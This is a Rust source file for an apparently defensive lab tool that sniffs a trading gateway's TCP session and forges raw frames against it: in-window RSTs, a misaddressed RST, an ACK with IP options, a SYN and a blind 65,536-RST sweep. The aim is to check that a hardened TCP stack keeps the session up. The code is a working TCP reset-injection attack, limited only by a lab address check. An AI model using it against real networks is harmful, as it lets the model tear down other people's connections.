//! `inject segments`: an adversary beside the order session, forging TCP segments from the
//! gateway to the trader as a stranger on the segment could. It watches the session go by on
//! the exchange's interface (an AF_PACKET socket filtered to the gateway's TCP port) to learn
//! the live connection (the trader's address, port and MAC, and the next byte the trader
//! expects, RCV.NXT; up once the gateway has sent it data), then sends rounds of each kind of
//! lie in raw frames with the gateway's
//! address, port and MAC:
//!
//! * `rst_in_window`: an RST 1,000 past RCV.NXT (inside any receive window);
//! * `rst_other_mac`: an RST at exactly RCV.NXT, to another host's MAC;
//! * `ack_ip_options`: an ACK at RCV.NXT whose IPv4 header carries options (IHL 6);
//! * `syn`: a SYN at RCV.NXT on the established connection;
//! * `rst_sweep`: a blind sweep, one RST every 64 KiB of sequence space (65,536 of them,
//!   64 a millisecond), once, in the first round: the port known, the number not.
//!
//! A venue-grade TCP takes none of them (RFC 5961, an L2 check, and no kernel that answers a
//! segment it has no socket for); the test reading the report asserts the session stayed up.
//! Every address must lie in the lab's 198.18.0.0/15.
use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};
use netns::Mac;

use crate::{
    options::SegmentsOptions,
    raw::{PacketSocket, Sniffer},
    report::{KindReport, SegmentsReport},
};

/// The kinds, in the order a round sends them.
pub const KINDS: [&str; 5] = [
    "rst_in_window",
    "rst_other_mac",
    "ack_ip_options",
    "syn",
    "rst_sweep",
];

/// Another host's MAC on the segment (none of the lab's).
const OTHER_MAC: [u8; 6] = [0x02, 0x00, 0xc6, 0x12, 0x00, 0x99];

/// The sweep's frames sent back to back before a millisecond's pause.
const SWEEP_BURST: usize = 64;

/// TCP flags.
const FIN: u8 = 0x01;
const SYN: u8 = 0x02;
const RST: u8 = 0x04;
const ACK: u8 = 0x10;

/// Ethernet, IPv4 and TCP header lengths (no options).
const ETH: usize = 14;
const IP: usize = 20;
const TCP: usize = 20;

/// What the watcher learned of the live connection.
#[derive(Debug, Clone, Copy)]
struct Conn {
    trader: SocketAddrV4,
    trader_mac: [u8; 6],
    gateway_mac: [u8; 6],
    /// The next byte the trader expects from the gateway.
    rcv_nxt: u32,
    /// The next byte the trader sends (what a forged ACK acknowledges).
    snd_nxt: u32,
    /// The gateway has sent data on it (its login's answer): the connection is up, and the
    /// lies are for it, not for a SYN the gateway may yet refuse.
    up: bool,
}

/// One TCP segment's fields, as the watcher reads a frame.
struct Seen {
    src: SocketAddrV4,
    dst: SocketAddrV4,
    src_mac: [u8; 6],
    dst_mac: [u8; 6],
    seq: u32,
    ack: u32,
    flags: u8,
    payload: u32,
    /// The IPv4 header's length.
    ihl: usize,
}

fn read(frame: &[u8]) -> Option<Seen> {
    let ip = frame.get(ETH..)?;
    let ihl = usize::from(ip.first()? & 0x0f) * 4;
    let total = usize::from(u16::from_be_bytes([*ip.get(2)?, *ip.get(3)?]));
    let tcp = ip.get(ihl..total.min(ip.len()))?;
    let data_offset = usize::from(tcp.get(12)? >> 4) * 4;
    let word = |at: usize| -> Option<u32> {
        Some(u32::from_be_bytes(tcp.get(at..at + 4)?.try_into().ok()?))
    };
    let addr = |at: usize, port: usize| -> Option<SocketAddrV4> {
        let a: [u8; 4] = ip.get(at..at + 4)?.try_into().ok()?;
        let p = u16::from_be_bytes(tcp.get(port..port + 2)?.try_into().ok()?);
        Some(SocketAddrV4::new(Ipv4Addr::from(a), p))
    };
    Some(Seen {
        src: addr(12, 0)?,
        dst: addr(16, 2)?,
        dst_mac: frame.get(..6)?.try_into().ok()?,
        src_mac: frame.get(6..12)?.try_into().ok()?,
        seq: word(4)?,
        ack: word(8)?,
        flags: *tcp.get(13)?,
        payload: u32::try_from(tcp.len().checked_sub(data_offset)?).ok()?,
        ihl,
    })
}

/// `b` at or after `a` in sequence space.
fn not_before(b: u32, a: u32) -> bool {
    (b.wrapping_sub(a) as i32) >= 0
}

/// Folds what one segment says into what is known of the connection to `gateway`.
fn learn(conn: &mut Option<Conn>, gateway: SocketAddrV4, s: &Seen) {
    if s.dst == gateway {
        // The trader's: a SYN starts a new connection.
        let fresh = conn.is_none_or(|c| c.trader != s.src) || s.flags & SYN != 0;
        let end = s
            .seq
            .wrapping_add(s.payload + u32::from(s.flags & (SYN | FIN) != 0));
        let new = Conn {
            trader: s.src,
            trader_mac: s.src_mac,
            gateway_mac: s.dst_mac,
            rcv_nxt: s.ack,
            snd_nxt: end,
            up: false,
        };
        let c = conn.get_or_insert(new);
        if fresh {
            *c = new;
        }
        if not_before(end, c.snd_nxt) {
            c.snd_nxt = end;
        }
        if s.flags & ACK != 0 && not_before(s.ack, c.rcv_nxt) {
            c.rcv_nxt = s.ack;
        }
    } else if s.src == gateway
        && let Some(c) = conn.as_mut().filter(|c| c.trader == s.dst && c.trader_mac == s.dst_mac)
        // Not our own lies, which the watcher sees go out too (RSTs, SYNs, IP options), nor
        // the gateway's SYN-ACK (the trader's ACK of it says the same).
        && s.flags & (RST | SYN) == 0
        && s.ihl == IP
    {
        let end = s
            .seq
            .wrapping_add(s.payload + u32::from(s.flags & FIN != 0));
        if not_before(end, c.rcv_nxt) {
            c.rcv_nxt = end;
        }
        c.up |= s.payload > 0;
    }
}

/// A frame from the gateway to the trader: `flags` at `seq`, acknowledging the trader's next
/// byte, to `dst_mac`, with IPv4 options (4 bytes of NOPs and an end) if `options`; both
/// checksums right.
fn forge(
    c: &Conn,
    gateway: SocketAddrV4,
    dst_mac: [u8; 6],
    seq: u32,
    flags: u8,
    options: bool,
) -> Vec<u8> {
    let opt = if options { 4 } else { 0 };
    let ihl = IP + opt;
    let mut f = vec![0u8; ETH + ihl + TCP];
    f[..6].copy_from_slice(&dst_mac);
    f[6..12].copy_from_slice(&c.gateway_mac);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let ip = &mut f[ETH..];
    ip[0] = 0x40 | (ihl / 4) as u8;
    ip[2..4].copy_from_slice(&((ihl + TCP) as u16).to_be_bytes());
    ip[6] = 0x40; // don't fragment
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&gateway.ip().octets());
    ip[16..20].copy_from_slice(&c.trader.ip().octets());
    if options {
        ip[20..24].copy_from_slice(&[1, 1, 1, 0]);
    }
    let sum = xdp_common::checksum::ipv4_header(&ip[..ihl]);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let tcp = &mut ip[ihl..];
    tcp[0..2].copy_from_slice(&gateway.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&c.trader.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    let ack = if flags & ACK != 0 { c.snd_nxt } else { 0 };
    tcp[8..12].copy_from_slice(&ack.to_be_bytes());
    tcp[12] = ((TCP / 4) as u8) << 4;
    tcp[13] = flags;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let sum = tcp_checksum(gateway.ip(), c.trader.ip(), &f[ETH + ihl..]);
    f[ETH + ihl + 16..ETH + ihl + 18].copy_from_slice(&sum.to_be_bytes());
    f
}

/// The TCP checksum of `segment` (its checksum field zero) between `src` and `dst`.
fn tcp_checksum(src: &Ipv4Addr, dst: &Ipv4Addr, segment: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    let mut add = |b: &[u8]| {
        for pair in b.chunks(2) {
            let hi = u32::from(pair[0]) << 8;
            sum += hi | pair.get(1).map_or(0, |&lo| u32::from(lo));
        }
    };
    add(&src.octets());
    add(&dst.octets());
    add(&[0, 6]);
    add(&(segment.len() as u16).to_be_bytes());
    add(segment);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// The frames one kind sends in a round (`first`: the first round, when the sweep goes).
fn frames_of(kind: &str, c: &Conn, gateway: SocketAddrV4, first: bool) -> Vec<(Vec<u8>, [u8; 6])> {
    let to = c.trader_mac;
    match kind {
        "rst_in_window" => vec![(
            forge(
                c,
                gateway,
                to,
                c.rcv_nxt.wrapping_add(1_000),
                RST | ACK,
                false,
            ),
            to,
        )],
        "rst_other_mac" => vec![(
            forge(c, gateway, OTHER_MAC, c.rcv_nxt, RST | ACK, false),
            OTHER_MAC,
        )],
        "ack_ip_options" => vec![(forge(c, gateway, to, c.rcv_nxt, ACK, true), to)],
        "syn" => vec![(forge(c, gateway, to, c.rcv_nxt, SYN, false), to)],
        "rst_sweep" if first => {
            // From an offset that misses RCV.NXT itself: a blind forger's luck is 1 in 65,536.
            let from = c.rcv_nxt.wrapping_add(7_777);
            (0..65_536u32)
                .map(|k| {
                    (
                        forge(c, gateway, to, from.wrapping_add(k << 16), RST, false),
                        to,
                    )
                })
                .collect()
        }
        _ => Vec::new(),
    }
}

fn in_lab(a: &Ipv4Addr) -> bool {
    let o = a.octets();
    o[0] == 198 && (o[1] & 0xfe) == 18
}

/// Runs `inject segments`.
pub fn run(o: SegmentsOptions) -> anyhow::Result<()> {
    if !in_lab(o.gateway.ip()) {
        bail!("--gateway {}: not a lab address (198.18.0.0/15)", o.gateway);
    }
    for k in &o.kinds {
        if !KINDS.contains(&k.as_str()) {
            bail!(
                "--kinds: unknown kind {k:?} (the kinds: {})",
                KINDS.join(", ")
            );
        }
    }
    let kinds: Vec<&str> = if o.kinds.is_empty() {
        KINDS.to_vec()
    } else {
        KINDS
            .iter()
            .copied()
            .filter(|k| o.kinds.iter().any(|x| x == k))
            .collect()
    };
    let sniffer = Sniffer::open_tcp(&o.iface, o.gateway.port())?;
    let sock = PacketSocket::open(&o.iface)?;
    let started = Instant::now();
    let deadline = started + Duration::from_secs(o.max_seconds);
    let mut conn: Option<Conn> = None;
    let mut report = SegmentsReport::default();
    let mut buf = vec![0u8; 2048];
    let mut next_round = None;
    while report.rounds < o.rounds && Instant::now() < deadline {
        while let Some(n) = sniffer.recv(&mut buf).context("watching the session")? {
            if let Some(s) = read(&buf[..n]) {
                learn(&mut conn, o.gateway, &s);
            }
        }
        let Some(c) = conn.filter(|c| c.up && in_lab(c.trader.ip())) else {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        };
        let due = *next_round.get_or_insert_with(Instant::now);
        if Instant::now() < due {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        for kind in &kinds {
            let r: &mut KindReport = report.kinds.entry((*kind).to_owned()).or_default();
            for (i, (frame, mac)) in frames_of(kind, &c, o.gateway, report.rounds == 0)
                .into_iter()
                .enumerate()
            {
                if i % SWEEP_BURST == SWEEP_BURST - 1 {
                    // The sweep paced (64 a millisecond, about a second in all): a flood that
                    // overran the trader's rings would cost the feed, the other lie.
                    std::thread::sleep(Duration::from_millis(1));
                }
                match sock.send(&frame, Mac::from(mac)) {
                    Ok(()) => r.sent += 1,
                    Err(e) => {
                        r.refused += 1;
                        r.error = Some(e.to_string());
                    }
                }
            }
        }
        report.trader = Some(c.trader);
        report.rounds += 1;
        next_round = Some(due + Duration::from_micros(o.interval_us));
    }
    std::fs::write(&o.json_out, serde_json::to_string_pretty(&report)?)
        .with_context(|| format!("writing {}", o.json_out.display()))?;
    if report.rounds == 0 {
        bail!(
            "no connection to {} seen on {} in {} s: nothing sent",
            o.gateway,
            o.iface,
            o.max_seconds
        );
    }
    Ok(())
}

/// The forged frames as an independent parser reads them.
#[cfg(test)]
mod tests {
    use super::*;

    fn conn() -> Conn {
        Conn {
            trader: SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 2), 61_234),
            trader_mac: [2, 0, 0xc6, 0x12, 0, 2],
            gateway_mac: [2, 0, 0xc6, 0x12, 0, 1],
            rcv_nxt: 4_000_000_000,
            snd_nxt: 77,
            up: true,
        }
    }

    const GW: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 26_401);

    #[test]
    fn each_lie_is_a_valid_segment_from_the_gateway_with_what_it_claims() {
        let c = conn();
        for kind in KINDS {
            let frames = frames_of(kind, &c, GW, true);
            assert!(!frames.is_empty(), "{kind}");
            let (frame, mac) = &frames[0];
            assert_eq!(&frame[..6], mac, "{kind}");
            let p = etherparse::SlicedPacket::from_ethernet(frame).unwrap();
            let Some(etherparse::NetSlice::Ipv4(ip)) = p.net else {
                panic!("{kind}: IPv4")
            };
            let h = ip.header().to_header();
            assert_eq!(h.header_checksum, h.calc_header_checksum(), "{kind}");
            assert_eq!(h.options.is_empty(), kind != "ack_ip_options", "{kind}");
            let Some(etherparse::TransportSlice::Tcp(t)) = p.transport else {
                panic!("{kind}: TCP")
            };
            let th = t.to_header();
            assert_eq!(
                th.calc_checksum_ipv4(&h, &[]).unwrap(),
                th.checksum,
                "{kind}"
            );
            assert_eq!((th.source_port, th.destination_port), (26_401, 61_234));
            let want = match kind {
                "rst_in_window" => c.rcv_nxt.wrapping_add(1_000),
                "rst_sweep" => c.rcv_nxt.wrapping_add(7_777),
                _ => c.rcv_nxt,
            };
            assert_eq!(th.sequence_number, want, "{kind}");
            assert_eq!(th.rst, kind.starts_with("rst"), "{kind}");
            assert_eq!(th.syn, kind == "syn", "{kind}");
        }
        assert_eq!(frames_of("rst_sweep", &c, GW, true).len(), 65_536);
        assert!(
            frames_of("rst_sweep", &c, GW, false).is_empty(),
            "the sweep goes once"
        );
    }

    #[test]
    fn the_watcher_learns_the_next_byte_from_both_directions() {
        let c = conn();
        let mut known = None;
        // The trader's ACK of 4,000,000,000, then 100 bytes from the gateway.
        let s = Seen {
            src: c.trader,
            dst: GW,
            src_mac: c.trader_mac,
            dst_mac: c.gateway_mac,
            seq: 77,
            ack: c.rcv_nxt,
            flags: ACK,
            payload: 0,
            ihl: IP,
        };
        learn(&mut known, GW, &s);
        assert_eq!(known.map(|k| k.rcv_nxt), Some(c.rcv_nxt));
        let from_gw = Seen {
            src: GW,
            dst: c.trader,
            src_mac: c.gateway_mac,
            dst_mac: c.trader_mac,
            seq: c.rcv_nxt,
            ack: 77,
            flags: ACK,
            payload: 100,
            ihl: IP,
        };
        assert!(
            known.is_some_and(|k| !k.up),
            "not up before the gateway's data"
        );
        learn(&mut known, GW, &from_gw);
        assert_eq!(known.map(|k| k.rcv_nxt), Some(c.rcv_nxt.wrapping_add(100)));
        assert!(known.is_some_and(|k| k.up));
        // Our own RST seen going out moves nothing.
        let lie = read(&forge(
            &c,
            GW,
            c.trader_mac,
            c.rcv_nxt.wrapping_add(5_000),
            RST | ACK,
            false,
        ));
        learn(&mut known, GW, &lie.unwrap());
        assert_eq!(known.map(|k| k.rcv_nxt), Some(c.rcv_nxt.wrapping_add(100)));
        assert!(read(&forge(&c, GW, c.trader_mac, 5, SYN, false)).is_some_and(|s| s.flags == SYN));
    }
}
